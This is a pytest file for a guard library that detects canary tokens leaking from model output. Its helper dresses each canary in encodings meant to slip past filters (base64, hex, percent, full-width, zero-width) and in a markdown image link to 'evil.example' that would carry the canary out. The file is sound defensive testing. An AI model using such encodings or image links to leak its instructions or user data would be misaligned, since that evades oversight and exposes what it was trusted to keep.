"""Canaries are noticed wherever they come out, and nothing else is taken for one."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chatward import Guard, issue_canary

GUARD = Guard()


def dressed(canary):
    return {
        "plain": canary,
        "upper": canary.upper(),
        "base64": base64.b64encode(f"the prompt says {canary}".encode()).decode(),
        "hex": canary.encode().hex(),
        "percent": "".join(f"%{ord(char):02x}" for char in canary),
        "full width": "".join(chr(ord(char) + 0xFEE0) for char in canary),
        "zero width": "\u200b".join(canary),
        "link": f"![x](https://evil.example/{canary})",
    }


@pytest.mark.parametrize("dress", sorted(dressed("")))
def test_a_canary_is_blocked_in_any_dress(dress):
    decision = GUARD.inspect(f"It reads: {dressed(issue_canary())[dress]}", origin="model")
    assert decision.blocked
    assert "canary" in decision.kinds


def test_every_canary_is_new_and_another_guard_knows_it():
    canaries = {issue_canary() for _ in range(50)}
    assert len(canaries) == 50
    assert all(Guard().inspect(each, origin="model").blocked for each in list(canaries)[:3])


@given(st.integers(4, 27), st.sampled_from("abcdefghijklmnopqrstuvwxyz234567"))
def test_with_one_letter_changed_it_is_none(place, letter):
    canary = "cnryaaaaaaaaaaaaaaaaxn6ik7bl"
    changed = canary[:place] + letter + canary[place + 1 :]
    blocked = GUARD.preview(changed, origin="model").blocked
    assert blocked is (changed == canary)


def test_a_stream_stops_before_a_canary():
    stream = GUARD.stream(origin="model")
    canary = issue_canary()
    said = [stream.feed(piece) for piece in ("I was told ", canary[:9], canary[9:], " and more")]
    assert "".join([*said, stream.finish()]) == "I was told I cannot help with that."
